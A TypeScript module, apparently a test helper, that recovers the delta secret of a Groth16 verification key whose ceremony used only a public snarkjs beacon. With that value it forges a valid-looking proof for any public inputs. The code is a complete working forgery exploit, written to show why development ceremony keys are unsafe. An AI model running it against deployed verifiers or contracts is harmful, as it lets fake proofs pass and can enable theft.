// The attack on a development-ceremony verifier (docs/zk.md section 4), as anyone can run it:
// the development phase 2 is one snarkjs beacon over `zkey new` (which starts delta at 1), and a
// beacon's value is public, so delta is recomputable: snarkjs's beacon hashes the beacon value
// 2^iterationsExp times with sha256, seeds ChaCha with the result and draws delta as the first
// field element (snarkjs src/zkey_beacon.js, misc.js rngFromBeaconParams). With delta,
// A = alpha, B = beta, C = -vk_x / delta satisfy e(A, B) = e(alpha, beta) e(vk_x, gamma) e(C, delta)
// for ANY public inputs (snarkjs keeps gamma at the generator): no witness, no circuit.
// The same recipe against a key with a secret contribution derives the wrong delta, and fails.
import { createHash } from 'node:crypto';
import * as snarkjs from 'snarkjs';
import type { SolidityProof } from '../../../src/lib/zk/calldata.ts';

/** ffjavascript's ChaCha20 stream (src/chacha.js), which snarkjs seeds from the beacon. */
class ChaCha {
  private state: number[];
  private buff: number[] = new Array<number>(16).fill(0);
  private idx = 16;
  constructor(seed: number[]) {
    this.state = [0x61707865, 0x3320646e, 0x79622d32, 0x6b206574, ...seed, 0, 0, 0, 0];
  }
  nextU32(): number {
    if (this.idx === 16) this.update();
    return this.buff[this.idx++]!;
  }
  nextU64(): bigint {
    const hi = BigInt(this.nextU32());
    return hi * 0x100000000n + BigInt(this.nextU32());
  }
  private update(): void {
    const b = [...this.state];
    const rotl = (x: number, n: number) => ((x << n) | (x >>> (32 - n))) >>> 0;
    const q = (a: number, c: number, d: number, e: number) => {
      b[a] = (b[a]! + b[c]!) >>> 0;
      b[e] = rotl(b[e]! ^ b[a]!, 16);
      b[d] = (b[d]! + b[e]!) >>> 0;
      b[c] = rotl(b[c]! ^ b[d]!, 12);
      b[a] = (b[a]! + b[c]!) >>> 0;
      b[e] = rotl(b[e]! ^ b[a]!, 8);
      b[d] = (b[d]! + b[e]!) >>> 0;
      b[c] = rotl(b[c]! ^ b[d]!, 7);
    };
    for (let i = 0; i < 10; i++) {
      q(0, 4, 8, 12);
      q(1, 5, 9, 13);
      q(2, 6, 10, 14);
      q(3, 7, 11, 15);
      q(0, 5, 10, 15);
      q(1, 6, 11, 12);
      q(2, 7, 8, 13);
      q(3, 4, 9, 14);
    }
    this.buff = b.map((x, i) => (x + this.state[i]!) >>> 0);
    this.idx = 0;
    for (let i = 12; i < 16; i++) {
      this.state[i] = (this.state[i]! + 1) >>> 0;
      if (this.state[i] !== 0) break;
    }
  }
}

interface VerificationKey {
  vk_alpha_1: string[];
  vk_beta_2: string[][];
  vk_delta_2: string[][];
  IC: string[][];
}

export interface Forgery {
  /** Whether delta recomputed from the beacon is the key's delta (the attack's precondition). */
  deltaRecovered: boolean;
  proof: SolidityProof;
}

/** A proof of `input` forged from the vkey and a public beacon (hash hex, iterations exponent) alone. */
export async function forgeFromBeacon(
  vkey: VerificationKey,
  beacon: { hash: string; iterationsExp: number },
  input: readonly [bigint, bigint, bigint, bigint],
): Promise<Forgery> {
  let h: Buffer = Buffer.from(beacon.hash, 'hex');
  for (let i = 0; i < 2 ** beacon.iterationsExp; i++) h = createHash('sha256').update(h).digest();
  const seed = Array.from({ length: 8 }, (_, i) => h.readUInt32BE(4 * i));

  const curve = await snarkjs.curves.getCurveFromName('bn128');
  try {
    const { Fr, G1, G2 } = curve;
    const delta = Fr.fromRng(new ChaCha(seed));
    const g1 = (p: string[]) => G1.fromObject(p.map(BigInt));
    const g2 = (p: string[][]) => G2.fromObject(p.map((c) => c.map(BigInt)));
    const deltaRecovered = G2.eq(G2.timesFr(G2.g, delta), g2(vkey.vk_delta_2));

    let vkX = g1(vkey.IC[0]!);
    input.forEach((s, i) => (vkX = G1.add(vkX, G1.timesFr(g1(vkey.IC[i + 1]!), Fr.e(s)))));
    const c = G1.toObject(G1.toAffine(G1.neg(G1.timesFr(vkX, Fr.inv(delta))))) as bigint[];
    const a = G1.toObject(G1.toAffine(g1(vkey.vk_alpha_1))) as bigint[];
    const b = G2.toObject(G2.toAffine(g2(vkey.vk_beta_2))) as bigint[][];
    return {
      deltaRecovered,
      // EIP-197 takes an Fp2 element as (c1, c0).
      proof: {
        a: [a[0]!, a[1]!],
        b: [
          [b[0]![1]!, b[0]![0]!],
          [b[1]![1]!, b[1]![0]!],
        ],
        c: [c[0]!, c[1]!],
        input: [...input] as [bigint, bigint, bigint, bigint],
      },
    };
  } finally {
    await curve.terminate();
  }
}
